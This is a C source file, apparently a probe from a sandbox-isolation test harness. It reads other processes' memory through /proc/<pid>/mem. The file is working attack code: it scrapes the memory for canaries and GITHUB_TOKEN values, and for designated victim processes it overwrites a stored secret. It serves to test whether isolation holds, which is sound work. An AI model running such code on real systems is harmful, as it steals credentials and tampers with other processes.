// /proc/<pid>/mem of other processes: read ocibuild's and the harness's memory (its environment
// and the canaries live there), read and overwrite the victim's secret.
#include "probe.h"

static void scan(pid_t pid, int write_back) {
  char* maps = p_strf("/proc/%d/maps", (int)pid);
  static char mb[1 << 20];
  ssize_t r = read_path(maps, mb, sizeof mb);
  ATT(r, "read(%s)", maps);
  char* mem = p_strf("/proc/%d/mem", (int)pid);
  int fd = open(mem, write_back ? O_RDWR : O_RDONLY);
  ATT(fd, "open(%s, %s)", mem, write_back ? "O_RDWR" : "O_RDONLY");
  if (fd < 0 || r <= 0) {
    if (fd >= 0) close(fd);
    return;
  }
  size_t budget = 256u << 20;
  char* line = mb;
  int found = 0;
  while (line && *line && budget > 0) {
    char* next = strchr(line, '\n');
    if (next) *next++ = 0;
    unsigned long lo, hi;
    char perms[8];
    if (sscanf(line, "%lx-%lx %7s", &lo, &hi, perms) == 3 && perms[0] == 'r' &&
        !strstr(line, "[vvar") && !strstr(line, "[vsyscall")) {
      size_t len = hi - lo;
      if (len > budget) len = budget;
      budget -= len;
      char* buf = malloc(len);
      ssize_t got = buf ? pread(fd, buf, len, (off_t)lo) : -1;
      if (got > 0) {
        found += loot_needles(mem, buf, (size_t)got, CANARY_PREFIX);
        found += loot_needles(mem, buf, (size_t)got, "GITHUB_TOKEN=");
        char* v = memmem(buf, (size_t)got, "VICTIM-SECRET:", 14);
        if (v) {
          ++found;
          p_loot(mem, v, 64);
          if (write_back) {
            off_t at = (off_t)(lo + (unsigned long)(v - buf) + 14);
            if (ATT(pwrite(fd, "PWNED-BY-PROBE", 14, at), "pwrite(%s)", mem) == 14)
              p_escape("overwrote the secret of pid %d", (int)pid);
          }
        }
      }
      free(buf);
    }
    line = next;
  }
  p_line("ATTEMPT", "scan of %s: %d hits", mem, found);
  close(fd);
}

int main(void) {
  p_start();
  char b[64];
  int self = open("/proc/self/mem", O_RDONLY);
  static const char probe_str[] = "own memory is readable";
  p_control(self >= 0 && pread(self, b, sizeof probe_str, (off_t)(uintptr_t)probe_str) > 0 &&
                !memcmp(b, probe_str, sizeof probe_str),
            "read /proc/self/mem", "%s", p_err(errno));
  pid_t t[64];
  int n = read_targets(t, 64);
  long v1 = hint_long("VICTIM"), v2 = hint_long("VICTIM2");
  for (int i = 0; i < n; ++i) scan(t[i], t[i] == v1 || t[i] == v2);
  p_end();
}
